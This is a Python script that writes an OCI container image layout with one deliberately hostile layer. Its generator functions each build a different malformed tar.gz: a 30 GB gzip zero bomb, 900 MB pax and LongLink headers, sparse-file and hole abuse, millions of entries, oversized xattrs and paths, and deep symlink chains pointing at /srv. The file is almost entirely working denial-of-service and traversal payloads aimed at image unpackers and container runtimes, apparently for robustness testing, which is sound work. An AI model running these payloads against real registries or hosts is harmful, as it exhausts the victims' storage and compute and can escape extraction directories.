"""Makes an OCI image layout with one image, whose one layer is hostile.

    hostile-layers.py KIND LAYOUT"""
import gzip
import hashlib
import io
import json
import os
import sys


def header(name, size=0, kind=b"0", link=b"", mode=0o644):
    block = bytearray(512)
    block[0:len(name[:100])] = name[:100]
    block[100:108] = b"%07o\0" % mode
    block[108:116] = block[116:124] = b"0000000\0"
    block[124:136] = b"%011o\0" % size if size < 8**11 else b"\x80" + size.to_bytes(11, "big")
    block[136:148] = b"%011o\0" % 0
    block[148:156] = b" " * 8
    block[156:157] = kind
    block[157:157 + len(link[:100])] = link[:100]
    block[257:265] = b"ustar\x0000"
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def padded(data):
    return data + b"\0" * (-len(data) % 512)


def record(key, value):
    rest = len(key) + len(value) + 3
    n = rest + len(str(rest))
    n = rest + len(str(n))
    return b"%d %s=%s\n" % (n, key, value)


def pax(records, name, **kind):
    data = b"".join(record(key, value) for key, value in records)
    link = dict(records).get(b"linkpath", b"")
    return header(b"x", len(data), b"x") + padded(data) + header(name, link=link, **kind)


def zeros(n):
    piece = b"\0" * (1 << 20)
    while n > 0:
        yield piece[:n]
        n -= len(piece)


def xattrs():
    for i in range(1500):
        yield pax([(b"SCHILY.xattr.user.x%d" % k, b"v" * 65000) for k in range(14)], b"d%d/" % i, kind=b"5", mode=0o755)


def names():
    for i in range(100000):
        path = b"/".join([b"%08d" % i] + [b"n" * 250] * 15)
        yield pax([(b"path", path)], b"x")


def directories():
    """One name for two thousand directories."""
    for i in range(3000):
        yield pax([(b"path", b"%04d" % i + b"/a" * 2040)], b"x")


def many():
    for i in range(5000000):
        yield header(b"%x" % i)


def files(first=b"a", count=500000):
    """A quarter of the names that an image may have."""
    for i in range(count):
        yield header(b"%s%x" % (first, i))


def others():
    yield from files(b"b")


def symlinks():
    for i in range(400000):
        yield pax([(b"linkpath", b"t/" * 1000)], b"%x" % i, kind=b"2")


def comment():
    size = 900 << 20
    digits = len(str(size))
    yield header(b"x", size, b"x")
    yield b"%d comment=" % size
    yield from zeros(size - 9 - digits - 1)
    yield b"\n" + b"\0" * (-size % 512)
    yield header(b"file")


def longname():
    yield header(b"././@LongLink", 900 << 20, b"L")
    yield from zeros(900 << 20)
    yield header(b"file")


def sparse():
    count = 40000000
    data = padded(b"%d\n" % count)
    yield pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"file"),
               (b"GNU.sparse.realsize", b"1000000")], b"file", size=count * 4 + 512)
    piece = b"1\n0\n" * (1 << 18)
    yield b"%d\n" % count
    for _ in range(count * 4 // len(piece)):
        yield piece
    yield b"\0" * (1 << 20)


def hole():
    size = 900 << 30
    data = padded(b"1\n%d\n1\n" % (size - 1))
    yield pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"file"),
               (b"GNU.sparse.realsize", b"%d" % size)], b"file", size=len(data) + 1)
    yield data + padded(b"x")


def bomb():
    """30 GB of zeros, in members of a gigabyte."""
    yield header(b"file", 30 << 30)
    yield "repeat", 30


def links():
    """40 symbolic links, each through two thousand directories."""
    deep = b"/".join([b"a"] * 2040)
    yield pax([(b"path", deep + b"/")], b"x", kind=b"5", mode=0o755)
    for i in range(39):
        back = b"/" + b"/".join([b"a"] * 2000) + b"/" + b"../" * 5 + b"l%d" % (i + 1)
        up = b"/".join([b"a"] * 1995)
        yield pax([(b"path", up + b"/l%d" % i), (b"linkpath", back)], b"x", kind=b"2")
    yield pax([(b"path", up + b"/l39"), (b"linkpath", b"/srv")], b"x", kind=b"2")
    yield pax([(b"linkpath", b"/" + up + b"/l0")], b"target", kind=b"2")


def fan():
    """Two thousand symbolic links, each leading through twenty deep ones."""
    up = b"/".join([b"a"] * 1999)
    yield pax([(b"path", up + b"/a/")], b"x", kind=b"5", mode=0o755)
    for i in range(20):
        yield pax([(b"path", up + b"/l%d" % i), (b"linkpath", b"/" + up + b"/l%d" % (i + 1))], b"x", kind=b"2")
    yield pax([(b"path", up + b"/l20"), (b"linkpath", b"/srv")], b"x", kind=b"2")
    for i in range(2000):
        yield pax([(b"linkpath", b"/" + up + b"/l0")], b"t%d" % i, kind=b"2")


class Layer:
    def __init__(self, path):
        self.file = open(path, "wb")
        self.blob, self.tar = hashlib.sha256(), hashlib.sha256()
        self.size = 0
        self.zip = gzip.GzipFile(fileobj=self, mode="wb", compresslevel=1, mtime=0)

    def write(self, data):
        self.file.write(data)
        self.blob.update(data)
        self.size += len(data)

    def flush(self):
        pass

    def add(self, piece):
        if isinstance(piece, tuple):
            self.zip.close()
            packed = io.BytesIO()
            with gzip.GzipFile(fileobj=packed, mode="wb", mtime=0) as member:
                for part in zeros(1 << 30):
                    member.write(part)
            for _ in range(piece[1]):
                self.write(packed.getvalue())
            self.zip = gzip.GzipFile(fileobj=self, mode="wb", compresslevel=1, mtime=0)
            return
        self.tar.update(piece)
        self.zip.write(piece)


def main():
    kind, layout = sys.argv[1:]
    blobs = layout + "/blobs/sha256/"
    os.makedirs(blobs)

    def put(value):
        data = json.dumps(value).encode()
        digest = hashlib.sha256(data).hexdigest()
        with open(blobs + digest, "wb") as file:
            file.write(data)
        return {"digest": "sha256:" + digest, "size": len(data)}

    layer = Layer(blobs + "layer")
    for piece in globals()[kind]():
        layer.add(piece)
    layer.add(b"\0" * 1024)
    layer.zip.close()
    layer.file.close()
    os.rename(blobs + "layer", blobs + layer.blob.hexdigest())
    media = "application/vnd.oci.image."
    config = put({"architecture": "amd64", "os": "linux", "config": {},
                  "rootfs": {"type": "layers", "diff_ids": ["sha256:" + layer.tar.hexdigest()]}})
    manifest = put({"schemaVersion": 2, "mediaType": media + "manifest.v1+json",
                    "config": {"mediaType": media + "config.v1+json", **config},
                    "layers": [{"mediaType": media + "layer.v1.tar+gzip", "digest": "sha256:" + layer.blob.hexdigest(),
                                "size": layer.size}]})
    with open(layout + "/index.json", "w") as file:
        json.dump({"schemaVersion": 2, "manifests": [{"mediaType": media + "manifest.v1+json", **manifest,
                                                      "annotations": {"org.opencontainers.image.ref.name": "v1"}}]}, file)
    with open(layout + "/oci-layout", "w") as file:
        file.write('{"imageLayoutVersion": "1.0.0"}')


main()
